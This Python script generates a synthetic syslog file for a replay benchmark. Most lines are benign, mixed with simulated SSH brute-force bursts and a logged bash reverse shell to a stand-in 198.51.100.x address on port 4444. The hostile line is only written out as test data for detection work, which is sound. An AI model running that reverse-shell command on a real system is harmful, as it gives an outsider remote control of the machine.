#!/usr/bin/env python3
"""Writes a syslog file for the replay benchmark: LINES lines of 7 kinds (RFC 5424 and RFC 3164),
one second apart in event time, mostly harmless, with now and then a burst of failed SSH
passwords (brute force, sometimes followed by a success) and a reverse shell.

    gen_syslog.py OUT LINES
"""
import datetime
import sys


def main():
    out, lines = sys.argv[1], int(sys.argv[2])
    start = datetime.datetime(2026, 3, 1, tzinfo=datetime.timezone.utc)
    with open(out, "w", buffering=1 << 20) as f:
        for i in range(lines):
            t = start + datetime.timedelta(seconds=i)
            iso = t.strftime("%Y-%m-%dT%H:%M:%SZ")
            bsd = t.strftime("%b %e %H:%M:%S")
            h, n = i % 50, i % 250
            kind = i % 7
            if i % 100_000 < 12:  # a brute-force burst from one address, then a login
                ok = i % 100_000 == 11
                word = "Accepted password" if ok else "Failed password"
                f.write(f"<38>1 {iso} web{h} sshd 4121 - - {word} for root from 198.51.100.{i // 100_000 % 250} port 4242 ssh2\n")
            elif i % 250_000 == 500:
                f.write(f"<86>{bsd} web{h} bash[3131]: bash -i >& /dev/tcp/198.51.100.{n}/4444 0>&1\n")
            elif kind == 0:
                f.write(f"<38>1 {iso} web{h} sshd 4121 - - Accepted publickey for alice from 203.0.113.{n} port 50022 ssh2\n")
            elif kind == 1:
                f.write(f"<86>{bsd} web{h} CRON[2212]: (root) CMD (run-parts /etc/cron.hourly) {n}\n")
            elif kind == 2:
                f.write(f"<30>{bsd} db{h} systemd[1]: Started Session {i} of user postgres.\n")
            elif kind == 3:
                f.write(f"<134>{bsd} lb{h} haproxy[811]: 203.0.113.{n}:41234 [01/Mar/2026:10:00:00.000] fe be/srv1 0/0/1/2/3 200 512 - - ---- 1/1/0/0/0 0/0 \"GET /index.html?id={i} HTTP/1.1\"\n")
            elif kind == 4:
                f.write(f"<30>{bsd} ns{h} named[733]: client @0x7f 192.0.2.{n}#53211 (example.org): query: example.org IN A + (192.0.2.1)\n")
            elif kind == 5:
                f.write(f"<14>{bsd} app{h} java[911]: INFO request {i} served in 12 ms\n")
            else:
                f.write(f"<38>1 {iso} web{h} sshd 4121 - - Connection closed by 203.0.113.{n} port 50022 [preauth]\n")


if __name__ == "__main__":
    main()
